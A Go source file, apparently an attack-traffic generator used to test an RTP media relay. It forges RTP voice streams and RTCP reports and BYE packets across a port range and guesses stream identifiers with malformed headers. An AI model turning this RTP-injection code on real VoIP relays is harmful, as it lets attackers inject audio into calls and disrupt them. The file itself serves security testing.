package attack

import (
	"bytes"
	"encoding/binary"
	"math/rand/v2"

	"github.com/pion/rtcp"

	"sidetone/relay/rtp"
)

// strategy makes the next packet of an attacker with one idea of how to be believed.
type strategy interface {
	next(b []byte) (port uint16, n int)
}

// strategies returns all, each for its share of the rate.
func strategies(cfg Config, random *rand.Rand) []strategy {
	voice := bytes.Repeat(cfg.Mark, 160/len(cfg.Mark)+1)[:160]
	ports := int(cfg.LastPort-cfg.FirstPort) + 1
	plot := func(every int) plot {
		p := plot{first: cfg.FirstPort, every: uint16(every), streams: make([]stream, ports/every), voice: voice}
		for i := range p.streams {
			p.streams[i] = newStream(random)
		}
		return p
	}
	const all = 5
	return []strategy{
		&sweep{plot: plot(1)},
		&burst{plot: plot(2)},
		&dwell{plot: plot(2), group: max(1, cfg.Rate/all/50)},
		&guess{random: random, first: cfg.FirstPort, ports: ports, voice: voice},
		&report{random: random, first: cfg.FirstPort, ports: ports, kinds: reports(string(cfg.Mark))},
	}
}

// stream is one RTP stream of G.711 or of telephone events, in packets of 20 ms.
type stream struct {
	ssrc, timestamp uint32
	sequence        uint16
	payloadType     uint8
}

// newStream begins a stream of what phones agree on most: G.711 in three of four.
func newStream(random *rand.Rand) stream {
	types := [...]uint8{0, 0, 8, 101}
	return stream{random.Uint32(), random.Uint32(), uint16(random.Uint32()), types[random.IntN(len(types))]}
}

// put writes the stream's next packet.
func (s *stream) put(b, voice []byte) int {
	h := rtp.Header{PayloadType: s.payloadType, SequenceNumber: s.sequence, Timestamp: s.timestamp, SSRC: s.ssrc}
	s.sequence, s.timestamp = s.sequence+1, s.timestamp+160
	n := h.Put(b)
	return n + copy(b[n:], voice)
}

// plot is the streams to every or every second port of the range.
type plot struct {
	first, every uint16
	streams      []stream
	voice        []byte
}

func (p *plot) put(b []byte, i int) (port uint16, n int) {
	return p.first + uint16(i)*p.every, p.streams[i].put(b, p.voice)
}

// sweep visits each port in turn.
type sweep struct {
	plot
	at int
}

func (s *sweep) next(b []byte) (uint16, int) {
	i := s.at % len(s.streams)
	s.at++
	return s.put(b, i)
}

// burst sends one port many packets in a row.
type burst struct {
	plot
	at int
}

const inBurst = 8

func (s *burst) next(b []byte) (uint16, int) {
	i := s.at / inBurst % len(s.streams)
	s.at++
	return s.put(b, i)
}

// dwell serves as many ports at a time as it can at a phone's pace, rounds packets to each, and moves on.
type dwell struct {
	plot
	group, from, at int
}

const rounds = 6

func (s *dwell) next(b []byte) (uint16, int) {
	i := (s.from + s.at%s.group) % len(s.streams)
	if s.at++; s.at == s.group*rounds {
		s.from, s.at = (s.from+s.group)%len(s.streams), 0
	}
	return s.put(b, i)
}

// guess hopes to hit a stream's SSRC, sequence number and payload type, or a reader that trusts lengths.
type guess struct {
	random *rand.Rand
	first  uint16
	ports  int
	voice  []byte
}

func (s *guess) next(b []byte) (uint16, int) {
	ssrcs := [...]uint32{s.random.Uint32(), 0, 1, 0x12345678, 0xdeadbeef, 0xffffffff}
	types := [...]uint8{0, 8, 3, 9, 13, 18, 96, 101, 127}
	h := rtp.Header{
		Marker:         s.random.IntN(2) == 0,
		PayloadType:    types[s.random.IntN(len(types))],
		SequenceNumber: uint16(s.random.Uint32()),
		Timestamp:      s.random.Uint32(),
		SSRC:           ssrcs[s.random.IntN(len(ssrcs))],
	}
	n := h.Put(b)
	n += copy(b[n:], s.voice)
	switch s.random.IntN(8) {
	case 0:
		n = s.random.IntN(n) // cut off
	case 1:
		b[0] = byte(s.random.Uint32()) // version, padding, extension, CSRC count
	}
	return s.first + uint16(s.random.IntN(s.ports)), n
}

// report sends RTCP.
type report struct {
	random *rand.Rand
	first  uint16
	ports  int
	kinds  [][]byte
	at     int
}

func (s *report) next(b []byte) (uint16, int) {
	n := copy(b, s.kinds[s.random.IntN(len(s.kinds))])
	if s.random.IntN(2) == 0 { // else the sender is one for all packets
		binary.BigEndian.PutUint32(b[4:], s.random.Uint32())
	}
	port := s.first + uint16(s.at%s.ports)
	s.at++
	return port, n
}

// reports makes one compound packet of each kind: sender and receiver reports, BYE, and a request of an application.
func reports(mark string) [][]byte {
	const ssrc = 0x5eed5eed
	name := rtcp.NewCNAMESourceDescription(ssrc, mark)
	var kinds [][]byte
	for _, compound := range [][]rtcp.Packet{
		{&rtcp.SenderReport{SSRC: ssrc, NTPTime: 1 << 63, PacketCount: 100, OctetCount: 16000}, name},
		{&rtcp.ReceiverReport{SSRC: ssrc, Reports: []rtcp.ReceptionReport{{SSRC: 1, FractionLost: 255}}}, name},
		{&rtcp.ReceiverReport{SSRC: ssrc}, name, &rtcp.Goodbye{Sources: []uint32{ssrc}, Reason: mark}},
		{&rtcp.ReceiverReport{SSRC: ssrc}, &rtcp.ApplicationDefined{SSRC: ssrc, Name: "mark", Data: []byte(mark)}},
	} {
		b, err := rtcp.Marshal(compound)
		if err != nil { // a mark longer than RTCP has room for
			continue
		}
		kinds = append(kinds, b)
	}
	return kinds
}
